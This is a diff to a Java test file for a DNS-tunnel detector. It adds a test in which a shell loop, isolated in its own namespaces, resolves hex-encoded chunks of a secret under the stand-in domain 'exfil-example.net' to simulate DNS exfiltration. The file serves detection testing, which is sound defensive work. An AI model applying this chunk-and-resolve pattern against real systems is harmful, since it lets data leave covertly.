@@ -1,6 +1,7 @@
 package io.procguard.ml;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import io.procguard.core.process.ProcessRecord;
 import java.nio.charset.StandardCharsets;
@@ -16,8 +17,9 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * Schemas 51 and 52: {@code ind.dns_tunnel}, with and without {@code -yy}. A Python client asks a loopback name server
- * for names given to it, in a network namespace of its own, under the real strace: data cut into labels under one domain (hex, base32, long and short
+ * Schemas 51 to 53: {@code ind.dns_tunnel}, with and without {@code -yy}, by one process and by a shell loop's
+ * children. A Python client asks a loopback name server for names given to it, in a network namespace of its own, under
+ * the real strace: data cut into labels under one domain (hex, base32, long and short
  * chunks, names so long strace's {@code -s 256} cuts them) against what must stay quiet (a mail scanner's hash lookups,
  * one long name asked again and again, long names under different domains, load balancers' names). Real strace, real
  * processes; the feature decides, not the forest.
@@ -112,6 +114,42 @@ class DnsTunnelTest {
         for (String how : List.of("sendto", "send", "sendmsg")) {
             assertThat(tunnel(ask(List.of("-f", "-s", "256"), how, names))).as(how + " without -yy").isEqualTo(1f);
         }
+    }
+
+    /**
+     * Runs {@code getent hosts NAME} for each name, one process each, from a shell loop, under strace, in a network and
+     * mount namespace of their own whose {@code /etc/resolv.conf} names 127.0.0.1 (bind-mounted over the host's only
+     * there). {@code $1} the resolv.conf, {@code $2} the log, then the names: arguments, never part of the script.
+     */
+    private static final String SHELL_LOOP = "set -e; mount --bind \"$1\" /etc/resolv.conf; ip link set lo up; log=$2; shift 2; "
+            + "exec strace -f -ttt -T -yy -s 256 -o \"$log\" /bin/sh -c 'for n in \"$@\"; do getent hosts \"$n\" || true; done' sh \"$@\"";
+
+    private List<ProcessRecord> shellLoop(List<String> names) throws Exception {
+        assumeTrue(Files.isExecutable(Path.of("/usr/bin/getent")), "no getent (libc-bin) here");
+        Path resolv = dir.resolve("resolv.conf");
+        Files.writeString(resolv, "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n");
+        Path log = dir.resolve("loop.log");
+        List<String> argv = new ArrayList<>(List.of("/usr/bin/unshare", "-n", "-m", "--propagation", "private", "/bin/sh", "-c",
+                SHELL_LOOP, "sh", resolv.toString(), log.toString()));
+        argv.addAll(names);
+        StraceRuns.runToEnd(argv);
+        assumeTrue(Files.exists(log), "a mount namespace could not be made here (unshare -m needs root)");
+        return StraceRuns.processes(log, new BehaviourFeatures()).stream().filter(p -> p.comm().equals("getent")).toList();
+    }
+
+    @Test
+    void aShellLoopAskingOneChunkAProcessIsTunnellingFromTheFourthOn() throws Exception {
+        // schema 53: one question a process; the children of one shell count together
+        List<ProcessRecord> getents = shellLoop(chunks(HexFormat.of().formatHex(SECRET.getBytes(StandardCharsets.UTF_8)), 36, 1,
+                "exfil-example.net").subList(0, 6));
+        assertThat(getents).hasSize(6);
+        assertThat(getents.stream().map(DnsTunnelTest::tunnel).toList()).as("in the order they ended").containsExactly(0f, 0f, 0f, 1f, 1f, 1f);
+        List<String> everyday = new ArrayList<>(List.of("www.example.com", "deb.debian.org", "security.debian.org", "api.github.com"));
+        for (int i = 0; i < 6; i++) {
+            everyday.add(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(("mail " + i).getBytes(StandardCharsets.UTF_8)))
+                    + ".malware.hash.cymru.com");
+        }
+        assertThat(shellLoop(everyday)).as("everyday names and a scanner's hash lookups").hasSize(10).allSatisfy(p -> assertThat(tunnel(p)).isZero());
     }
 
     @Test
